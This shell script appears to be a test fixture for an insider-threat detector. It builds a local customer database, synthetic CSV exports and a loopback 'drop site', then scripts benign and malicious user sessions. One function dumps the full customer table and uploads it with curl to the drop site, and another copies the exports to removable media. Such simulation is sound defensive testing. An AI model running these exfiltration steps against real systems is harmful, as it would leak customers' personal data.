# SPDX-License-Identifier: GPL-2.0-only
# The insider scenario shared by the demo and the end-to-end test: a customer database
# on 127.0.0.2:5432, an export share of customer CSVs, a drop site on 127.0.0.77:8080,
# and support staff who log in and either do their job or pull everything and ship it.
# Needs itest.sh-style helpers: in_session, ensure_user, wait_until, itest_on_exit.

. "$(dirname "${BASH_SOURCE[0]}")/pg_fixture.sh"

SCENARIO_ROWS=${SCENARIO_ROWS:-600000}

# scenario_setup WORKDIR SRCDIR: database, drop site, export share, people.
scenario_setup() {
	local work=$1 src=$2
	mkdir -p "$work" "$src"
	# The people and the postgres user must reach the share and the cluster.
	chmod a+rx "$T" "$work"
	ensure_user alice 1101
	ensure_user bob 1102
	ensure_user carol 1103
	ensure_user dave 1104
	for i in 1 2 3; do
		# 24 MiB per export file: three of them are a bulk collection.
		python3 - "$src/customers-part$i.csv" $i <<'PY'
import sys
part = int(sys.argv[2])
with open(sys.argv[1], "w") as f:
    i, size = 0, 0
    while size < 24 * 1024 * 1024:
        line = f"{part}{i:08d},Customer {i},+1-555-{i % 10000000:07d},c{i}@example.com\n"
        f.write(line)
        size += len(line)
        i += 1
PY
	done
	chmod -R a+rX "$src"
	pg_start "$work/pg" "$SCENARIO_ROWS" || return 1
	itest_on_exit "pg_stop $work/pg"
	python3 "$LIB/dropsite.py" --addr 127.0.0.77 --port 8080 --count "$work/dropsite.count" \
		>"$work/dropsite.out" 2>&1 &
	DROPSITE_PID=$!
	itest_on_exit "kill $DROPSITE_PID"
	wait_until 30 grep -q ready "$work/dropsite.out"
}

# alice pulls the whole customer table with psql, then uploads it to the drop site.
scenario_exfil_alice() {
	local info=$1
	in_session 1101 "$info" bash -c '
		cd ~ &&
		psql -h 127.0.0.2 -U postgres -q -c "\copy (select * from customers) to customers.csv csv" &&
		gzip -1 -k -f customers.csv &&
		curl -sS -T customers.csv.gz http://127.0.0.77:8080/upload -o /dev/null'
}

# bob copies the export share onto a USB stick (a FAT image under /media).
scenario_media_bob() {
	local info=$1 src=$2 mnt=$3
	in_session --keep-root 1102 "$info" bash -c "cp $src/*.csv $mnt/ && sync"
}

# carol looks up single customers for callers, with pauses, as the job requires.
scenario_benign_carol() {
	local info=$1
	in_session 1103 "$info" bash -c '
		for id in 17 4242 99 123456 31337 8 777 5150 2024 404; do
			psql -h 127.0.0.2 -U postgres -Atq -c "select name, phone from customers where id = $id" >/dev/null
			sleep 0.2
		done'
}

# dave builds software: lots of file activity, none of it customer data.
scenario_benign_dave() {
	local info=$1
	in_session 1104 "$info" bash -c '
		cd $(mktemp -d) &&
		for i in $(seq 1 20); do echo "int f$i(void) { return $i; }" > f$i.c; done &&
		echo "int main(void) { return 0; }" > main.c &&
		gcc -O2 -o app *.c && ./app && tar czf build.tgz *.c app'
}

# A nightly backup by root, outside any login session (loginuid unset, as for a
# service), whatever session the test itself runs in.
scenario_benign_backup() {
	local info=$1 src=$2 out=$3
	in_session --keep-root 4294967295 "$info" tar czf "$out" -C "$src" .
}
